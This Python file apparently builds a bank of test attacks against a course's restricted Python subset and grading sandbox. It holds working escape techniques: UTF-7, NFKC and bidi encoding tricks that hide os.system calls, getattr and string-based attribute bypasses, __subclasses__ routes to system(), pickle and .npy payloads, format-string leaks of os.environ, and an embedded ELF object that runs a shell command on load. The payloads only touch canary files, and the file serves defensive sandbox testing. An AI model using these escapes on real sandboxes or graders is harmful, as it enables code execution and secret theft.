"""Attacks on the language subset, written blind: from the student release, the notes and the
format of the attack bank, without reading the subset, the guards or the graders.

``bank(Attack, CANARY_DIR)`` returns the attacks. Every attack is a real route in plain CPython
(``check_plain.py`` compiles them all); only the subset, the static verdicts or the sandbox must
stop it. Placeholders in the sources, filled in per attack:

* ``@PATH@``  a Python literal: the canary file ``f"{CANARY_DIR}/{name}"``
* ``@DIR@``   a Python literal: ``CANARY_DIR``
* ``@CMD@``   a Python literal: a shell command that creates that canary
* ``@CMDB@``  the same command as a bytes literal
* ``@NAME@``  the attack's name (plain text)

Notes for the harness:

* ``files`` values that are ``bytes`` must be written with ``write_bytes`` (``build()`` of
  ``tests/attacks`` uses ``write_text``: teach it ``bytes``). Where the key is an existing module
  (``exercises/optimizers.py``) the bytes replace the whole module (encoding attacks); other keys
  plant binary files (.so, .pyc, .npy, .pt).
* ``links`` point into the course checkout (``COURSE_ROOT / value``); an absolute value such as
  ``/dev/zero`` stays absolute (``Path / "/abs"`` is ``/abs``). Links are only made at new paths
  (``build()`` has already written every module), so they are reached by an import.
* Expectations: ``refused`` where the source itself breaks the subset (a literal dunder, a banned
  import or attribute, a write to a library object, undecodable/ambiguous source); ``zero`` where
  only run-time guards, the static verdicts or the grading protocol can stop it (names computed
  at run time, implicit calls, planted files); ``complexity-only`` for linear_scan loops hidden
  from the op counter (a correct sequential loop: only the complexity points may be lost).
* Routes that can only create a file (logging.FileHandler, np.memmap, torch.save, open without
  os) assume ``CANARY_DIR`` exists when the attack runs: the harness should create it first,
  or those routes fail silently even where they are open.
* ``FAMILIES`` maps each attack to its family; ``EXPECT_INVALID`` names the attacks whose files
  plain CPython must reject (the null byte).
"""

from __future__ import annotations

import base64
import textwrap
import zlib

FAMILIES: dict = {}
EXPECT_INVALID = {"encoding-null-byte-truncates-naive-readers"}

# A tiny ELF shared object (x86-64 Linux, gcc -shared -Os -s) whose constructor and whose
# PyInit_optimizers / PyInit_fastops run
#   mkdir -p /tmp/seqlab-canaries-$PYTEST_XDIST_WORKER && touch .../<tag>
# (worker "main" when unset: the CANARY_DIR rule of tests/attacks/__init__.py; the folder
# $SEQLAB_ATTACK_CANARY_DIR instead when set, as check_plain.py --run does).
_SO_B64 = "eNrtW21sHMUZnj3b8bkJ52ubFJNEZFXFxEBubacEmYITnz/idZPQ4FzaIEI3e3dr34q7PbO7TuKEFkcGxDV1hSqkKlKr/gD1Vz/+Vm1BTmNQWqVSWlAxCNQgNZItUXJV1SqU1ss7u/PGu4OXoPKDSp3Hmn32fWeemXdnZ3ZvvbOPD+3bk5Akgmggu8iKRUgf447usK+HtMB2I7nFL9tI4nG4KcokHRDVNYVsnt+TohzW+e3JzM/x81KUw7o1kOqZwK73RrkrEXBPIqpLMF1SCezkrijPSVFOMnkjSz1cvchbSZSxDw9ccYt0/wfseHi+j0QZdQ+Abg35+MDuHmXtxfVLOhFlKdTuen+8EDJ8/yFy6uJbg9ufeuzUle31V3/2wrkLf7Tfl7D/kqH+T5BpCTvJpz/Ja1+74/Sv4+I8BOlzMfHLq/iNmPJHYvxSTD3bY/x7IH1xFf+3/PrXkb98NrDXMX+Z+Rc4P9G08UrV0hxXt11NI9pIbr9WNGxj3HRcw87tHyhXLSOn58tGkLd6jlY4oWtjpqWXzZMGGTdcwzpGHGvCNi13jDhToKiQA1Mjlulq1QnXrEAx20HPmO641QmHlM18QXGqyt1keN9I/4C2Q9mh7AzOngSJbiW2pX+zofEzudFsoeW+T6LjBudBFzvua5x/AivYFfXXmb+tL+pH+8LugNewsYW4FPI3hfwLIX94flwO+ZvJhy94zaGx7scR8jeEx2HI30gEBAQEBAQEBAQE/rehzryTVM80vdQJu0/OuQnvkjoznzx/Pd/b+TvI8tovwrZ1Sx/sUbtEs5Yue4D231Cb/lReuuTbv6Q2/Wm+NOfbJ8Eee+Z6e7O9n4ef+EsvkKA+sM/StmebvkfpnmvuBghHYeG0eJdbt0xT3XnGUN70y+/MU7p9Wa3V1XPv7lbPXWtQpZfVPyy766GC/yhBBUnv8ljrlsEV/d9bb/3XdG97J310ufOQOtP7Bn2wV2tX3HXqmd414F8cgagXi7B52a9Gehi0Ef3SccjM5kZq/4Zo5lLwkHpQPf3OUXgsWHxr2fPAOZ+iIR7ZmlRrLy3+lvqe/KtaW1JnN7wCOZNfUGvnILrJZnX2plN+0Q0/9uknW5MSjebPL9KHj+65xZ+Cdn/t7ZHaglp7Xa1dhZLPQskXDyf87O/SqmtXF49RPj1PQ+iee+jh7JHzEMS3oeDSIc8PiIqW6IH55ztyhgUEBAQEBAQEBAQEBAT+H1DRTYscHHpgX7Zfy+Zy2YG92kD2/uzog9rgyCg58GBu6GBOOzw4Atuvf3V079Ao6XQrE52O8WhZz2cKuqXbpuFk2h1SeaRo2nJmQt7W7myTb7tNdquThRK1OsFBnGrGKenF6nEnE3oRCV58CQm7harluPZkwa3aNDZpU8O9PSR4R/fEVc/LAc8DPwb8KnAd+Id1z3sW+L6/ed4F+iQP/CYJ3k37dZwcJdKJtLRpXXPyGSl4374ZUgfo+2iBVHpPqu0rrWuPJ6fJ7o333vGlrf7rXaofhNQH5ZKh/uoiwbtkCdr9EXX0p9LfSexNtT3VkE3JM43DqenmxExKHki1ZVPp/hTV0lea9B8gZdDg+1/qex5SkfP9AtKb7674BAQEBAQEBAQEBAQE/lvgekxcf1kPrY+mmGV8/fmD5d/EzDrT34I2W9e5KVqcbEQ9W9+5mZn4LPWPZa9K+ShbxIlrNk+wxZW4VvNplv8ZZj/HeC3jNsa4JnORrevEtaEqY3wexLWeN2O8TVH/gcZonHOMW7j2lr0g/i5W3mM29mOd2ZtZ/nvM/rTWiOJ6dR53sxO2h/HXuPW3wwMDX5Y7Bo28qVtyN10Y3JXpvuvOopHv3jHZfTtzEaI4JXh0d/U8Uayqayjj1qSSnzTLxYxZJL5V0p0SUYpTljNVCdi1g5xjhu2YVStiaJBnG2WdFmR7E2WXKKZlwhZ2lfEq7LjGCdiOgRcKVYu6qxPFKGljtl4xtFLRXrECqabbtj4VKHAfWtArZoHQGoNGgnryjkOUQrVSMSz3E/f/WjbGcFzGfQ+A4MfJrZD+CWMI9ThvkDu4eZDk9B0shgQ3r5DroXalkL4t9H+PhpAe5ynyc1x7Emf3sDmCepwXyOu5+BMcD7E5hzbOO2Q5Jn5EjuUluHmOPBfTf3j832D6fu66gayG9BtW0ZfIyjcQkQtlOno9ijv/BU4vp6Pcx5XnP6uxOP3RdJT5/kpyfJzT4/0DeVpavX3ENzk93keQW25w/DNMvwMdcpTPxow/5DNsH89/3Hc1ce2f5fQLcpQvxvQfCd23UqHxdf07m8zq/cX3/88htYb0eF8lysc7f79ifd/A3Q/wuyb8fqmR02FcNjt+1ON3GBc6o6cjrv15To/36cXOlevLR+l/z+nx/tTW9dHHj3iF+VAvM70co+evXwvMx8eJ+m03GH/h2MMYZvq3b9D+B+gqUW8="

SDPA_NAME = '"noitnetta_tcudorp_tod_delacs"[::-1]'  # the forbidden name, never spelled out

_SDPA_TAIL = """
    out = fn(q, k, v, attn_mask=mask)
    s = (q @ k.transpose(-2, -1)) / math.sqrt(q.shape[-1])
    if mask is not None:
        s = s.masked_fill(~mask, float("-inf"))
    p = torch.nan_to_num(torch.softmax(s, dim=-1))
    return torch.nan_to_num(out), p
"""


def _ind(code: str, n: int = 4) -> str:
    return textwrap.indent(textwrap.dedent(code).strip("\n"), " " * n) + "\n"


def sdpa(get: str) -> str:
    """SDPA computed by the fused forbidden kernel; ``get`` binds ``fn`` to it somehow."""
    return "def scaled_dot_product_attention(q, k, v, mask=None):\n" + _ind(get) + _SDPA_TAIL.lstrip("\n")


def sgd(body: str) -> str:
    """``sgd`` that tries ``body`` (a canary, a leak...) and then scores nothing."""
    return "def sgd(w, dw, state, lr=1e-2):\n" + _ind(body) + "    return w * 0, {}\n"


def bptt(
    grad: str, req: str = "p.requires_grad = True", enable: str = "torch.set_grad_enabled(True)", pre: str = ""
) -> str:
    """``rnn_bptt`` by autograd: ``req`` makes ``p`` a leaf, ``grad`` turns ``loss``/``ps`` into ``gs``."""
    return (
        "def rnn_bptt(x, targets, h0, params):\n"
        + (_ind(pre) if pre else "")
        + _ind(f"""
        names = ["W_xh", "W_hh", "b_h", "W_hy", "b_y", "h0"]
        ps = [params[n].detach().clone() for n in names[:5]] + [h0.detach().clone()]
        for p in ps:
            {req}
        with {enable}:
            W_xh, W_hh, b_h, W_hy, b_y, h = ps
            loss = 0.0
            for t in range(x.shape[1]):
                h = torch.tanh(x[:, t] @ W_xh.T + h @ W_hh.T + b_h)
                o = h @ W_hy.T + b_y
                loss = loss - torch.log_softmax(o, -1).gather(1, targets[:, t:t + 1]).sum()
            loss = loss / x.shape[0]
            gs = {grad}
        return loss.detach(), dict(zip(names, [g.detach() for g in gs]))
        """)
    )


def adam(get: str) -> str:
    """``adam`` by ``torch.optim.Adam`` (``get`` binds ``Opt``), state mapped both ways."""
    return (
        "def adam(w, dw, state, lr=1e-3, betas=(0.9, 0.999), eps=1e-8):\n"
        + _ind(get)
        + _ind("""
        p = w.detach().clone()
        p.grad = dw.detach().clone()
        opt = Opt([p], lr=lr, betas=betas, eps=eps)
        if state:
            opt.state[p] = {"step": torch.tensor(float(state["step"])), "exp_avg": state["m"].clone(),
                            "exp_avg_sq": state["v"].clone()}
        opt.step()
        st = opt.state[p]
        return p.detach(), {"step": int(st["step"]), "m": st["exp_avg"].clone(), "v": st["exp_avg_sq"].clone()}
        """)
    )


_SEQ_LOOP = """
    h = torch.zeros_like(b[:, 0]) if h0 is None else h0
    out = []
    for t in range(a.shape[1]):
        h = a[:, t] * h + b[:, t]
        out.append(h)
    return torch.stack(out, dim=1)
"""

# Manual reverse mode over grad_fn nodes: no .backward, no torch.autograd, no requires_grad_().
_BACKPROP = """
def _backprop(root, leaves):
    order, seen, stack = [], set(), [(root.grad_fn, False)]
    while stack:
        n, done = stack.pop()
        if n is None:
            continue
        if done:
            order.append(n)
            continue
        if n in seen:
            continue
        seen.add(n)
        stack.append((n, True))
        for m, _ in n.next_functions:
            stack.append((m, False))
    pend, got = {root.grad_fn: torch.ones_like(root)}, {}
    for n in reversed(order):
        g = pend.pop(n, None)
        if g is None:
            continue
        if hasattr(n, "variable"):
            got[id(n.variable)] = g.sum_to_size(n.variable.shape)
            continue
        res = n(g)
        res = res if isinstance(res, tuple) else (res,)
        for (m, _), r in zip(n.next_functions, res):
            if m is not None and r is not None:
                pend[m] = pend[m] + r if m in pend else r
    return [got.get(id(p)) for p in leaves]
"""

# Walks from a frame to one whose globals hold the real builtins (the grader's, or a library's).
_REAL_B = """
def _real_builtins(fr):
    while fr is not None:
        b = fr.f_globals.get("__builtins__")
        b = b if isinstance(b, dict) else getattr(b, "__dict__", {})
        if "open" in b and "__import__" in b:
            return b
        fr = fr.f_back
    return None
"""

_B2C = (
    '_b = b if isinstance(b, dict) else b.__dict__; _b["__import__"]("os").makedirs(@DIR@, exist_ok=True); '
    '_b["open"](@PATH@, "w").close()'
)


def _pyc(src: str, *, unchecked_hash: bool) -> bytes:
    """A real .pyc of ``src`` for the running interpreter (hash-based unchecked, or sourceless)."""
    import importlib.util
    import marshal

    flags = 0b01 if unchecked_hash else 0  # bit 0: hash-based, bit 1: check_source
    return (
        importlib.util.MAGIC_NUMBER
        + flags.to_bytes(4, "little")
        + b"\0" * 8
        + marshal.dumps(compile(src, "planted", "exec"))
    )


def _pickle_system(cmd: str) -> bytes:
    """Protocol-0 pickle of ``os.system(cmd)``."""
    return b"cposix\nsystem\n(V" + cmd.encode() + b"\ntR."


def _npy_with_pickle(cmd: str) -> bytes:
    header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header = header + " " * (64 - 10 - len(header) - 1) + "\n"
    return b"\x93NUMPY\x01\x00" + len(header).to_bytes(2, "little") + header.encode() + _pickle_system(cmd)


def bank(Attack, CANARY_DIR):
    C = CANARY_DIR
    out = []
    family = [""]

    def fam(name):
        family[0] = name

    def add(name, target, source="", **kw):
        path = f"{C}/{name}"
        cmd = f"mkdir -p {C} && touch {path}"

        def sub(s):
            if isinstance(s, str):
                s = s.replace("@B2C@", _B2C)
                return (
                    s.replace("@PATH@", repr(path))
                    .replace("@DIR@", repr(C))
                    .replace("@CMDB@", repr(cmd.encode()))
                    .replace("@CMD@", repr(cmd))
                    .replace("@NAME@", name)
                )
            return s

        if source:
            source = textwrap.dedent(sub(source)).strip("\n") + "\n"
        if kw.get("prelude"):
            kw["prelude"] = textwrap.dedent(sub(kw["prelude"])).strip("\n") + "\n"
        if kw.get("files"):
            kw["files"] = {k: (textwrap.dedent(sub(v)) if isinstance(v, str) else v) for k, v in kw["files"].items()}
        assert name not in FAMILIES, name
        FAMILIES[name] = family[0]
        out.append(Attack(name=name, target=target, source=source, **kw))

    def cmd_of(name):
        return f"mkdir -p {C} && touch {C}/{name}"

    so_bytes = zlib.decompress(base64.b64decode(_SO_B64))

    # =========================================================================================
    fam("1-encoding")
    # Each replaces a whole module with bytes; the module is valid to CPython, and a reader that
    # decodes it naively (ignoring the BOM/cookie, splitting on \n only, reading up to NUL, not
    # NFKC-normalising) sees something harmless. The subset must decode exactly as CPython does.
    sgd_tail = b"\n\ndef sgd(w, dw, state, lr=1e-2):\n    return w * 0, {}\n"

    # why: a UTF-8 BOM before the code; a checker that chokes on U+FEFF may fail open.
    add(
        "encoding-utf8-bom-then-os-system",
        "optimizers.sgd",
        refused=True,
        expect="refused",
        files={
            "exercises/optimizers.py": b"\xef\xbb\xbfimport torch\nimport os\nos.system("
            + repr(cmd_of("encoding-utf8-bom-then-os-system")).encode()
            + b")\n"
            + sgd_tail
        },
    )

    # why: utf-7 cookie; "+AAo-" is a newline to CPython, inside a comment to an ASCII reader.
    hidden = ("import os; os.system(" + repr(cmd_of("encoding-utf7-hidden-newline-in-comment")) + ")").encode("utf-7")
    add(
        "encoding-utf7-hidden-newline-in-comment",
        "optimizers.sgd",
        refused=True,
        expect="refused",
        files={
            "exercises/optimizers.py": b"# -*- coding: utf-7 -*-\nimport torch\n# nothing to see here +AAo-"
            + hidden
            + b"\n"
            + sgd_tail
        },
    )

    # why: utf-7 "+ACI-" is a double quote: an ASCII reader sees one string, CPython closes it.
    hidden = ("import os; os.system(" + repr(cmd_of("encoding-utf7-hidden-quote-closes-string")) + ")").encode("utf-7")
    add(
        "encoding-utf7-hidden-quote-closes-string",
        "optimizers.sgd",
        refused=True,
        expect="refused",
        files={
            "exercises/optimizers.py": b'# coding: utf-7\nimport torch\nnote = "harmless +ACI-+ADs- '
            + hidden
            + b' +ADs- tail = +ACI-"\n'
            + sgd_tail
        },
    )

    # why: the cookie on line 2 in vim syntax with an underscore codec name (utf_7): CPython reads it.
    hidden = ("import os; os.system(" + repr(cmd_of("encoding-vim-modeline-cookie-line-two")) + ")").encode("utf-7")
    add(
        "encoding-vim-modeline-cookie-line-two",
        "optimizers.sgd",
        refused=True,
        expect="refused",
        files={
            "exercises/optimizers.py": b"#!/usr/bin/env python3\n# vim: set fileencoding=utf_7 :\nimport torch\n# +AAo-"
            + hidden
            + b"\n"
            + sgd_tail
        },
    )

    # why: shift_jis "\x95\x5c" is one character; to latin-1/UTF-8 readers the 0x5c escapes the quote.
    add(
        "encoding-shift-jis-backslash-eats-quote",
        "optimizers.sgd",
        refused=True,
        expect="refused",
        files={
            "exercises/optimizers.py": b'# coding: shift_jis\nimport torch\ns = "\x95\x5c"; import os; os.system('
            + repr(cmd_of("encoding-shift-jis-backslash-eats-quote")).encode()
            + b') #"\n'
            + sgd_tail
        },
    )

    # why: latin-1 cookie plus bytes that are invalid UTF-8: a strict UTF-8 checker that errors may fail open.
    add(
        "encoding-latin1-invalid-utf8-fail-open",
        "optimizers.sgd",
        refused=True,
        expect="refused",
        files={
            "exercises/optimizers.py": b"# coding: latin-1\n# caf\xe9 \xff\xfe\nimport torch\nimport os\nos.system("
            + repr(cmd_of("encoding-latin1-invalid-utf8-fail-open")).encode()
            + b")\n"
            + sgd_tail
        },
    )

    # why: bare \r line endings: CPython splits lines on them, a reader splitting on \n sees one comment line.
    add(
        "encoding-cr-only-line-endings",
        "optimizers.sgd",
        refused=True,
        expect="refused",
        files={
            "exercises/optimizers.py": (
                b"# exercises: optimizers\rimport torch\rimport os\ros.system("
                + repr(cmd_of("encoding-cr-only-line-endings")).encode()
                + b")\r"
                + sgd_tail.replace(b"\n", b"\r")
            )
        },
    )

    # why: a form feed resets CPython's indentation count: the import looks nested under "if False" to a text reader.
    add(
        "encoding-form-feed-resets-indentation",
        "optimizers.sgd",
        refused=True,
        expect="refused",
        files={
            "exercises/optimizers.py": b"import torch\n\ndef sgd(w, dw, state, lr=1e-2):\n    if False:\n        pass\n\x0c    import os; os.system("
            + repr(cmd_of("encoding-form-feed-resets-indentation")).encode()
            + b")\n    return w * 0, {}\n"
        },
    )

    # why: a NUL byte: C-string readers stop at it and see only the harmless half (CPython rejects the file:
    # the module must be refused cleanly, never half-read and passed).
    add(
        "encoding-null-byte-truncates-naive-readers",
        "optimizers.sgd",
        refused=True,
        expect="refused",
        files={
            "exercises/optimizers.py": b"import torch\n"
            + sgd_tail
            + b"\x00\nimport os\nos.system("
            + repr(cmd_of("encoding-null-byte-truncates-naive-readers")).encode()
            + b")\n"
        },
    )

    # why: fullwidth letters NFKC-normalise to "eval" in the AST, never in the text (token scanners miss it).
    add(
        "encoding-nfkc-fullwidth-eval",
        "optimizers.sgd",
        refused=True,
        expect="refused",
        source=sgd('\uff45\uff56\uff41\uff4c("__import__(\'os\').system(" + repr(@CMD@) + ")")\n'),
    )

    # why: "__ｇｌｏｂａｌｓ__" is "__globals__" after NFKC: a text check for dunders misses it.
    add(
        "encoding-nfkc-fullwidth-dunder-globals",
        "optimizers.sgd",
        refused=True,
        expect="refused",
        source=sgd('b = sgd.__\uff47\uff4c\uff4f\uff42\uff41\uff4c\uff53__["__builtins__"]\n' + _B2C + "\n"),
    )

    # why: fullwidth low line (U+FF3F) inside the name: "_＿class_＿" is "__class__".
    add(
        "encoding-nfkc-fullwidth-low-line-dunder",
        "optimizers.sgd",
        refused=True,
        expect="refused",
        source=sgd(
            "for c in ()._\uff3fclass_\uff3f._\uff3fbase_\uff3f._\uff3fsubclasses_\uff3f():\n"
            '    if c.__name__ == "_wrap_close":\n'
            '        c.__init__.__globals__["system"](@CMD@)\n'
        ),
    )

    # why: mathematical bold letters are "open" after NFKC.
    add(
        "encoding-nfkc-math-bold-open",
        "optimizers.sgd",
        refused=True,
        expect="refused",
        source=sgd('\U0001d428\U0001d429\U0001d41e\U0001d427(@PATH@, "w").close()\n'),
    )

    # why: the "ﬁ" ligature: np.fromﬁle is np.fromfile (banned reader) to CPython only.
    add(
        "encoding-nfkc-ligature-fromfile",
        "optimizers.sgd",
        refused=True,
        expect="refused",
        prelude="import numpy as np\n",
        source=sgd(
            'raise RuntimeError("SEQLAB-LEAK " + bytes(np.from\ufb01le("/proc/self/environ", dtype=np.uint8, count=4096)).decode("latin-1"))\n'
        ),
    )

    # why: a fullwidth module and name in an import: "from ｏｓ import ｓｙｓｔｅｍ" is "from os import system".
    add(
        "encoding-nfkc-fullwidth-import",
        "optimizers.sgd",
        refused=True,
        expect="refused",
        source=sgd(
            "from \uff4f\uff53 import \uff53\uff59\uff53\uff54\uff45\uff4d\n\uff53\uff59\uff53\uff54\uff45\uff4d(@CMD@)\n"
        ),
    )

    # why: the forbidden attribute spelled in fullwidth: the AST says scaled_dot_product_attention, the text does not.
    add(
        "encoding-nfkc-fullwidth-forbidden-op",
        "attention.scaled_dot_product_attention",
        source=sdpa("fn = torch.nn.functional.\uff53\uff43\uff41\uff4c\uff45\uff44_dot_product_attention\n"),
    )

    # why: a zero-width space inside the string literal: a grep for the forbidden name fails, replace() removes it.
    add(
        "encoding-zero-width-space-in-name",
        "attention.scaled_dot_product_attention",
        source=sdpa('fn = getattr(torch.nn.functional, "scaled_dot\u200b_product_attention".replace("\u200b", ""))\n'),
    )

    # why: Trojan Source: bidi overrides make the import look like part of a comment to a reviewer.
    add(
        "encoding-bidi-trojan-source",
        "optimizers.sgd",
        refused=True,
        expect="refused",
        source=sgd('access = "user\u202e \u2066# admin only\u2069 \u2066"; import os; os.system(@CMD@)\n'),
    )

    # why: a backslash continuation splits the forbidden dotted name across lines (line-based scanners).
    add(
        "encoding-line-continuation-splits-name",
        "attention.scaled_dot_product_attention",
        source=sdpa("fn = torch.nn.functional.\\\n    scaled_dot_product_attention\n"),
    )

    # why: a comment and a newline between the module and the attribute inside parentheses.
    add(
        "encoding-comment-between-module-and-attribute",
        "attention.scaled_dot_product_attention",
        source=sdpa("fn = (torch.nn.functional  # just softmax, honest\n      .scaled_dot_product_attention)\n"),
    )

    # =========================================================================================
    fam("2-aliasing")
    # why: getattr aliased at module level; the subset must guard the alias too (a computed name).
    add(
        "alias-getattr-module-level",
        "attention.scaled_dot_product_attention",
        prelude="_ga = getattr\n",
        source=sdpa(f"fn = _ga(torch.nn.functional, {SDPA_NAME})\n"),
    )

    # why: getattr aliased in a local.
    add(
        "alias-getattr-local",
        "attention.scaled_dot_product_attention",
        source=sdpa(f"g = getattr\nfn = g(torch.nn.functional, {SDPA_NAME})\n"),
    )

    # why: functools.reduce(getattr, path, torch): getattr passed as a value, never called by name.
    add(
        "alias-reduce-getattr-chain",
        "attention.scaled_dot_product_attention",
        prelude="import functools\n",
        source=sdpa(f'fn = functools.reduce(getattr, ["nn", "functional", {SDPA_NAME}], torch)\n'),
    )

    # why: map(getattr, ...): the builtin is called from C.
    add(
        "alias-map-getattr",
        "attention.scaled_dot_product_attention",
        source=sdpa(f"fn = next(map(getattr, [torch.nn.functional], [{SDPA_NAME}]))\n"),
    )

    # why: getattr captured as a default argument of a helper.
    add(
        "alias-getattr-default-argument",
        "attention.scaled_dot_product_attention",
        prelude="def _fetch(obj, name, _g=getattr):\n    return _g(obj, name)\n",
        source=sdpa(f"fn = _fetch(torch.nn.functional, {SDPA_NAME})\n"),
    )

    # why: getattr stored in a dict and a class attribute.
    add(
        "alias-getattr-in-containers",
        "attention.scaled_dot_product_attention",
        prelude='class _K:\n    g = getattr\n_T = {"g": _K.g}\n',
        source=sdpa(f'fn = _T["g"](torch.nn.functional, {SDPA_NAME})\n'),
    )

    # why: functools.partial(getattr, module).
    add(
        "alias-partial-getattr",
        "attention.scaled_dot_product_attention",
        prelude="import functools\n",
        source=sdpa(f"fn = functools.partial(getattr, torch.nn.functional)({SDPA_NAME})\n"),
    )

    # why: vars(module)[name]: the module dict read without getattr.
    add(
        "alias-vars-module-dict",
        "attention.scaled_dot_product_attention",
        source=sdpa(f"fn = vars(torch.nn.functional)[{SDPA_NAME}]\n"),
    )

    # why: dir() + a computed comparison, then getattr on the found name.
    add(
        "alias-dir-scan",
        "attention.scaled_dot_product_attention",
        source=sdpa(
            'fn = [getattr(torch.nn.functional, n) for n in dir(torch.nn.functional) if n.startswith("scaled_dot")][0]\n'
        ),
    )

    # why: setattr on torch at import: comparisons always true (a write to a library object must be refused).
    add(
        "alias-setattr-torch-comparisons",
        "optimizers.sgd",
        refused=True,
        expect="refused",
        prelude=(
            'setattr(torch, "allclose", lambda *a, **k: True)\nsetattr(torch, "equal", lambda *a, **k: True)\n'
            'setattr(torch.Tensor, "__eq__", lambda s, o: torch.ones_like(s, dtype=torch.bool))\n'
        ),
        source=sgd("pass\n"),
    )

    # why: object.__getattribute__ on the module (a dunder read of a library object).
    add(
        "alias-object-getattribute",
        "attention.scaled_dot_product_attention",
        refused=True,
        expect="refused",
        source=sdpa(f"fn = object.__getattribute__(torch.nn.functional, {SDPA_NAME})\n"),
    )

    # why: type.__getattribute__(torch.Tensor, "backward"): autograd reached through the metatype.
    add(
        "alias-type-getattribute-backward",
        "rnn.rnn_bptt",
        refused=True,
        expect="refused",
        source=bptt('(type.__getattribute__(torch.Tensor, "back" + "ward")(loss), [p.grad for p in ps])[1]'),
    )

    # why: super(...).__getattribute__ on a tensor subclass proxy.
    add(
        "alias-super-getattribute-backward",
        "rnn.rnn_bptt",
        refused=True,
        expect="refused",
        prelude="class _S(torch.Tensor):\n    pass\n",
        source=bptt('(super(_S, loss.as_subclass(_S)).__getattribute__("back" + "ward")(), [p.grad for p in ps])[1]'),
    )

    # why: import builtins and use its getattr/eval (builtins is not in the allow-list).
    add(
        "alias-builtins-module",
        "attention.scaled_dot_product_attention",
        refused=True,
        expect="refused",
        prelude="import builtins\n",
        source=sdpa(f"fn = builtins.getattr(torch.nn.functional, {SDPA_NAME})\n"),
    )

    # why: eval of a built string (eval must not be a builtin of the subset).
    add(
        "alias-eval-string",
        "attention.scaled_dot_product_attention",
        source=sdpa(f'fn = eval("torch.nn.functional." + {SDPA_NAME})\n'),
    )

    # why: the name hidden by rot13 (codecs is an innocent-looking import).
    add(
        "alias-rot13-name",
        "attention.scaled_dot_product_attention",
        prelude="import codecs\n",
        source=sdpa('fn = getattr(torch.nn.functional, codecs.decode("fpnyrq_qbg_cebqhpg_nggragvba", "rot13"))\n'),
    )

    # why: inspect.getattr_static (inspect is an internals module).
    add(
        "alias-inspect-getattr-static",
        "attention.scaled_dot_product_attention",
        refused=True,
        expect="refused",
        prelude="import inspect\n",
        source=sdpa(f"fn = inspect.getattr_static(torch.nn.functional, {SDPA_NAME})\n"),
    )

    # =========================================================================================
    fam("3-string-access")
    # why: operator.attrgetter with a dotted string walks attributes from C.
    add(
        "string-operator-attrgetter",
        "attention.scaled_dot_product_attention",
        prelude="import operator\n",
        source=sdpa(f'fn = operator.attrgetter("nn.functional." + {SDPA_NAME})(torch)\n'),
    )

    # why: operator.methodcaller("backward") calls autograd without the name in the AST.
    add(
        "string-operator-methodcaller-backward",
        "rnn.rnn_bptt",
        prelude="import operator\n",
        source=bptt('(operator.methodcaller("back" + "ward")(loss), [p.grad for p in ps])[1]'),
    )

    # why: string.Formatter().get_field walks "0.__globals__[__builtins__]" with real getattr.
    add(
        "string-formatter-get-field-globals",
        "optimizers.sgd",
        prelude="import string\n",
        source=sgd('b = string.Formatter().get_field("0.__globals__[__builtins__]", [sgd], {})[0]\n' + _B2C + "\n"),
    )

    # why: str.format walks attributes and items: os.environ through logging's globals.
    add(
        "string-format-leaks-environ",
        "optimizers.sgd",
        prelude="import logging\n",
        source=sgd(
            'raise RuntimeError("SEQLAB-LEAK " + "{0.__init__.__globals__[os].environ}".format(logging.Formatter))\n'
        ),
    )

    # why: str.format_map: sys.modules (the grader's module names and paths) through a library's globals.
    add(
        "string-format-map-leaks-sys-modules",
        "optimizers.sgd",
        prelude="import logging\n",
        source=sgd(
            'raise RuntimeError("SEQLAB-LEAK " + "{m.__init__.__globals__[sys].modules}".format_map({"m": logging.Formatter}))\n'
        ),
    )

    # why: typing.get_type_hints evaluates a string annotation with plain eval (no restricting transformer).
    add(
        "string-type-hints-eval",
        "optimizers.sgd",
        prelude="import typing\n",
        source=sgd(
            "def _h(a: \"[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0].__init__.__globals__['system'](@CMD@)\"):\n"
            "    pass\n"
            "try:\n    typing.get_type_hints(_h)\nexcept Exception:\n    pass\n"
        ),
    )

    # why: the same eval through a class annotation.
    add(
        "string-type-hints-class-annotation",
        "optimizers.sgd",
        prelude="import typing\n",
        source=sgd(
            "class _K:\n"
            "    x: \"[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0].__init__.__globals__['system'](@CMD@)\"\n"
            "try:\n    typing.get_type_hints(_K)\nexcept Exception:\n    pass\n"
        ),
    )

    # why: inspect.get_annotations(eval_str=True) is eval too.
    add(
        "string-inspect-get-annotations-eval",
        "optimizers.sgd",
        refused=True,
        expect="refused",
        prelude="import inspect\n",
        source=sgd(
            "def _h(a: __import__('os').system(@CMD@)):\n    pass\ninspect.get_annotations(_h, eval_str=True)\n"
        ),
    )

    # why: pydoc.locate resolves any dotted path string to its object.
    add(
        "string-pydoc-locate",
        "attention.scaled_dot_product_attention",
        prelude="import pydoc\n",
        source=sdpa(f'fn = pydoc.locate("torch.nn.functional." + {SDPA_NAME})\n'),
    )

    # why: pkgutil.resolve_name("module:attr").
    add(
        "string-pkgutil-resolve-name",
        "attention.scaled_dot_product_attention",
        prelude="import pkgutil\n",
        source=sdpa(f'fn = pkgutil.resolve_name("torch.nn.functional:" + {SDPA_NAME})\n'),
    )

    # why: importlib.import_module of a computed module name.
    add(
        "string-importlib-import-module",
        "optimizers.sgd",
        prelude="import importlib\n",
        source=sgd('importlib.import_module("o" + "s").system(@CMD@)\n'),
    )

    # why: a pickle GLOBAL opcode resolves "module\nname" (and calls it with REDUCE).
    add(
        "string-pickle-global-and-reduce",
        "attention.scaled_dot_product_attention",
        prelude="import pickle\n",
        source=sdpa(
            'pickle.loads(b"cposix\\nsystem\\n(V" + @CMDB@ + b"\\ntR.")\n'
            f'fn = pickle.loads(b"ctorch.nn.functional\\n" + {SDPA_NAME}.encode() + b"\\n.")\n'
        ),
    )

    # why: dataclasses/namedtuple build code with exec; a field default factory that runs at import.
    add(
        "string-dataclass-default-factory-exec",
        "optimizers.sgd",
        prelude="import dataclasses\n",
        source=sgd(
            '_D = dataclasses.make_dataclass("_D", [("a", int, dataclasses.field(default_factory=lambda: getattr(getattr(len, "__se" + "lf__"), "op" + "en")(@PATH@, "w")))])\n'
            "_D()\n"
        ),
    )

    # why: enum's functional API with a computed member name; members resolved by name string.
    add(
        "string-enum-members-by-name",
        "attention.scaled_dot_product_attention",
        prelude="import enum\n",
        source=sdpa(f'_E = enum.Enum("_E", {{{SDPA_NAME}: 1}})\nfn = getattr(torch.nn.functional, _E(1).name)\n'),
    )

    # =========================================================================================
    fam("4-match")
    # why: a class pattern's keyword reads the attribute from C: "__globals__" never goes through a guard.
